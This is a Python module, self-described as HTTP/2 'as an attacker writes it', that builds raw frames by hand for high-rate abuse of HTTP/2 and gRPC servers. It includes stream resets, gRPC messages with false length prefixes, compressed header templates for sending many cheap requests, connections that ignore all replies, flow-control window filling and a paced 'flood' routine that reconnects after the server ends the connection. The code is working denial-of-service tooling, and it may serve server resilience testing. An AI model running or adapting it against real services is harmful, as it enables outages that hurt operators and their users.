"""HTTP/2 as an attacker writes it: frames by hand, made before they are sent, so that the sender takes little time."""

import contextlib
import select
import socket
import ssl
import struct
import time
from collections import Counter, deque
from collections.abc import Callable, Iterable, Sequence

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
NAMES = "DATA HEADERS PRIORITY RST_STREAM SETTINGS PUSH_PROMISE PING GOAWAY WINDOW_UPDATE CONTINUATION".split()
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB
# Of SETTINGS.
TABLE_SIZE, ENABLE_PUSH, INITIAL_WINDOW = 1, 2, 4
MOST_WINDOW = (1 << 31) - 1
PIECE = 16 << 10

Address = tuple[str, int]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    """A SETTINGS frame."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def window_update(stream: int, increment: int) -> bytes:
    """A WINDOW_UPDATE frame."""
    return frame(WINDOW, 0, stream, struct.pack(">I", increment))


def reset(stream: int, code: int = CANCEL) -> bytes:
    """A RST_STREAM frame."""
    return frame(RESET, 0, stream, struct.pack(">I", code))


def message(body: bytes, flag: int = 0, length: int | None = None) -> bytes:
    """A gRPC message; `length` is what its prefix claims, if not the truth."""
    return struct.pack(">BI", flag, len(body) if length is None else length) + body


# === headers ===


def number(value: int, bits: int, first: int) -> bytes:
    """An integer of HPACK whose first byte has `bits` bits for it."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def text(value: str | bytes) -> bytes:
    """A string of HPACK, plain."""
    value = value.encode() if isinstance(value, str) else value
    return number(len(value), 7, 0) + value


def literal(name: str | bytes, value: str | bytes, first: int = 0x00) -> bytes:
    """A header field; `first` is 0x40 for one that goes into the table."""
    return bytes([first]) + text(name) + text(value)


def call(path: str, token: str | None = None, *extra: tuple[str, str]) -> list[tuple[str, str]]:
    """The headers of a gRPC call."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "attack")]
    fields += [("content-type", "application/grpc"), ("te", "trailers")]
    if token:
        fields.append(("authorization", f"Bearer {token}"))
    return fields + list(extra)


def block(fields: Iterable[tuple[str | bytes, str | bytes]]) -> bytes:
    """A block of headers that needs no table."""
    return b"".join(literal(name, value) for name, value in fields)


class Template:
    """Headers that are put into the table once and then take a byte each."""

    def __init__(self, fields: Sequence[tuple[str, str]]) -> None:
        self.first = b"".join(literal(name, value, 0x40) for name, value in fields)
        # The last that was put in has the lowest index, 62.
        self.again = bytes(0x80 | 61 + len(fields) - index for index in range(len(fields)))

    def headers(self, stream: int, flags: int) -> bytes:
        """A HEADERS frame; that of stream 1 fills the table."""
        return frame(HEADERS, flags | END_HEADERS, stream, self.first if stream == 1 else self.again)

    def streams(self, each: Callable[[int], bytes], flags: int, first: int, count: int) -> bytes:
        """`count` calls from stream `first` on, each followed by what `each` gives for it."""
        ids = range(first, first + 2 * count, 2)
        return b"".join(self.headers(stream, flags) + each(stream) for stream in ids)


# === connections ===


class Connection:
    """A connection that does what it is told, and counts what comes back."""

    def __init__(
        self,
        address: Address,
        source: str | None = None,
        window: int = MOST_WINDOW,
        tls: ssl.SSLContext | None = None,
        greet: bool = True,
        patience: float = 5,
    ) -> None:
        self.counts: Counter[str] = Counter()
        self.statuses: Counter[str] = Counter()
        self.resets: Counter[int] = Counter()
        self.goaway: int | None = None
        self.closed = False
        # Whether it reads nothing at all of what comes.
        self.deaf = False
        self.next, self.buffer, self.owed = 1, bytearray(), bytearray()
        # What may be sent: on the connection, on a new stream, on each.
        self.room, self.initial, self.rooms = 65535, 65535, {}
        self.answered: set[int] = set()
        self.data: dict[int, bytearray] | None = None
        self.decoder: hpack.Decoder | None = None
        self.socket = socket.socket()
        self.socket.settimeout(patience)
        if source:
            self.socket.bind((source, 0))
        self.socket.connect(address)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
        if greet:
            # Without a table the blocks of answers can be read one by one.
            hello = PREFACE + settings((TABLE_SIZE, 0), (ENABLE_PUSH, 0), (INITIAL_WINDOW, window))
            if window > 65535:
                hello += window_update(0, MOST_WINDOW - 65535)
            self.socket.sendall(hello)
        self.socket.setblocking(False)

    def watch(self, data: bool = False) -> "Connection":
        """Reads the statuses of answers, and keeps their bytes if `data` says so."""
        self.decoder = hpack.Decoder()
        self.data = {} if data else None
        return self

    def stream(self) -> int:
        """The next stream's number."""
        self.next += 2
        return self.next - 2

    def close(self) -> None:
        """Closes it, answers unread."""
        self.closed = True
        self.socket.close()

    # --- what comes ---

    def take(self) -> int:
        """Reads what is there; how many bytes that was."""
        total = 0
        while not self.closed and not self.deaf:
            try:
                piece = self.socket.recv(1 << 18)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except OSError:
                piece = b""
            if not piece:
                self.closed = True
                self.socket.close()
                break
            total += len(piece)
            self.buffer += piece
            self._parse()
            if total > 1 << 22:
                break
        return total

    def _parse(self) -> None:
        buffer, at, size = self.buffer, 0, len(self.buffer)
        while size - at >= 9:
            length = int.from_bytes(buffer[at : at + 3])
            if size - at < 9 + length:
                break
            kind, flags, stream = struct.unpack_from(">BBI", buffer, at + 3)
            self.counts[NAMES[kind] if kind < 10 else "?"] += 1
            self._frame(kind, flags, stream, buffer[at + 9 : at + 9 + length])
            at += 9 + length
        del buffer[:at]

    def _frame(self, kind: int, flags: int, stream: int, payload: bytearray) -> None:
        match kind:
            case 0:
                if self.data is not None:
                    self.data.setdefault(stream, bytearray()).extend(payload)
                if flags & END_STREAM:
                    self.answered.add(stream)
            case 1:
                if flags & END_STREAM:
                    self.answered.add(stream)
                if self.decoder and flags & END_HEADERS:
                    self._statuses(bytes(payload))
            case 3:
                self.resets[struct.unpack(">I", payload)[0]] += 1
                self.answered.add(stream)
            case 4 if not flags & ACK:
                for index in range(0, len(payload), 6):
                    name, value = struct.unpack_from(">HI", payload, index)
                    if name == INITIAL_WINDOW:
                        self.rooms = {key: room + value - self.initial for key, room in self.rooms.items()}
                        self.initial = value
                self.owed += frame(SETTINGS, ACK, 0)
            case 6 if not flags & ACK:
                self.owed += frame(PING, ACK, 0, bytes(payload))
            case 7:
                self.goaway = struct.unpack_from(">I", payload, 4)[0]
            case 8:
                increment = struct.unpack(">I", payload)[0]
                if stream == 0:
                    self.room += increment
                else:
                    self.rooms[stream] = self.rooms.get(stream, self.initial) + increment

    def _statuses(self, payload: bytes) -> None:
        with contextlib.suppress(hpack.HPACKError):
            for name, value in self.decoder.decode(payload):
                if name == "grpc-status":
                    self.statuses[str(value)] += 1

    # --- what goes ---

    def write(self, data: bytes, seconds: float = 10) -> bool:
        """Sends all of `data` while taking what comes; whether it went."""
        until = time.monotonic() + seconds
        view = memoryview(bytes(self.owed) + data if self.owed else data)
        self.owed.clear()
        while view and not self.closed:
            left = until - time.monotonic()
            if left <= 0:
                return False
            # What is half sent cannot be taken back: the rest of a frame always goes first.
            poll = select.poll()
            poll.register(self.socket, select.POLLOUT if self.deaf else select.POLLIN | select.POLLOUT)
            ready = sum(event for _, event in poll.poll(min(left, 0.5) * 1000))
            if ready & ~select.POLLOUT:
                self.take()
            if ready & select.POLLOUT and not self.closed:
                try:
                    view = view[self.socket.send(view[: 1 << 18]) :]
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
                except OSError:
                    self.closed = True
        return not self.closed

    def call(self, fields: Sequence[tuple[str, str]], body: bytes | None = None, end: bool = True) -> int:
        """Begins a call, with a body that fits into the windows; its stream."""
        stream = self.stream()
        flags = END_HEADERS | (END_STREAM if body is None and end else 0)
        self.write(frame(HEADERS, flags, stream, block(fields)))
        if body is not None:
            pour([(self, stream, memoryview(body))], time.monotonic() + 30, end=end)
        return stream

    def settle(self, streams: Iterable[int], seconds: float) -> bool:
        """Waits until these are answered; whether all are."""
        waited, until = set(streams), time.monotonic() + seconds
        while not waited <= self.answered and not self.closed and time.monotonic() < until:
            pump([self], 0.05)
        return waited <= self.answered


def pump(connections: Iterable[Connection], seconds: float, first: bool = False) -> None:
    """Takes what comes, and answers what has to be answered, for a time, or until the first of it if that is asked for."""
    until = time.monotonic() + seconds
    poll, known = select.poll(), {}
    for connection in connections:
        if not connection.closed and not connection.deaf:
            known[connection.socket.fileno()] = connection
            poll.register(connection.socket, select.POLLIN)
    while known and (left := until - time.monotonic()) > 0:
        came = poll.poll(min(left, 0.2) * 1000)
        for number_, _ in came:
            connection = known[number_]
            connection.take()
            if connection.owed:
                connection.write(b"", 1)
            if connection.closed:
                poll.unregister(number_)
                del known[number_]
        if first and came:
            return
    if not known and (left := until - time.monotonic()) > 0:
        time.sleep(left)


Body = tuple[Connection, int, memoryview]


def pour(bodies: Sequence[Body], until: float, end: bool = False, piece: int = PIECE) -> int:
    """Sends each body as far as its windows let it, all in turn; how many bytes went. `end` ends the streams."""
    waiting: dict[int, deque[tuple[int, memoryview]]] = {}
    by_id = {}
    for connection, stream, body in bodies:
        by_id[id(connection)] = connection
        waiting.setdefault(id(connection), deque()).append((stream, body))
    total = 0
    while waiting and time.monotonic() < until:
        before = total
        for key in list(waiting):
            total += _pour_one(by_id[key], waiting[key], end, piece)
            if not waiting[key] or by_id[key].closed:
                del waiting[key]
        if total == before and waiting:
            pump([by_id[key] for key in waiting], 0.05, first=True)
    return total


def _pour_one(connection: Connection, queue: "deque[tuple[int, memoryview]]", end: bool, piece: int) -> int:
    """Sends what one connection's windows let through, a turn of all its bodies at most."""
    parts, total = [], 0
    for _ in range(len(queue)):
        if connection.room <= 0 or total >= 4 << 20:
            break
        stream, body = queue.popleft()
        if stream in connection.answered:
            continue
        room = connection.rooms.get(stream, connection.initial)
        size = min(connection.room, room, piece, len(body))
        if size <= 0 and body:
            queue.append((stream, body))
            continue
        last = size == len(body)
        head = len(body[:size]).to_bytes(3) + struct.pack(">BBI", DATA, END_STREAM if end and last else 0, stream)
        parts += [head, body[:size]]
        connection.room -= size
        connection.rooms[stream] = room - size
        total += size
        if not last:
            queue.append((stream, body[size:]))
    if parts:
        connection.write(b"".join(parts), 5)
    return total


def flood(
    connect: Callable[[], Connection],
    batches: Sequence[bytes],
    until: float,
    seconds: float,
    again: int = 0,
) -> tuple[int, list[Connection]]:
    """Sends the batches evenly over `seconds`; on a connection that ends, from the first one on again on another, at most
    `again` times. How many went, and the connections."""
    connection, sent, at = connect(), 0, 0
    used = [connection]
    begun = time.monotonic()
    while sent < len(batches) and time.monotonic() < until:
        if connection.closed or connection.goaway is not None:
            if len(used) > again:
                break
            connection, at = connect(), 0
            used.append(connection)
        if connection.write(batches[at], 5):
            sent, at = sent + 1, (at + 1) % len(batches)
        elif not connection.closed:
            break
        connection.take()
        ahead = begun + seconds * sent / len(batches) - time.monotonic()
        if ahead > 0:
            pump([connection], ahead)
    return sent, used
